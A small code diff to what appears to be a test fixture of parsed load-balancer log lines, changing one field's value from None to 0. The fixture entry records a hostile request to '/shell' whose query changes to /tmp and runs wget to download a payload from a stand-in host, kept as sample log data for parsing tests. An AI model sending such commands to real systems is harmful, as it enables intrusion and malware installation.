@@ -43,7 +43,7 @@ ALB_LINES: Lines = [
             "path": "/shell",
             "query": "cd+/tmp;wget+ a.example.org/jaws",
             "duration_ms": None,
-            "upstream_status": None,
+            "upstream_status": 0,
             "service": None,
             "status": 301,
         },
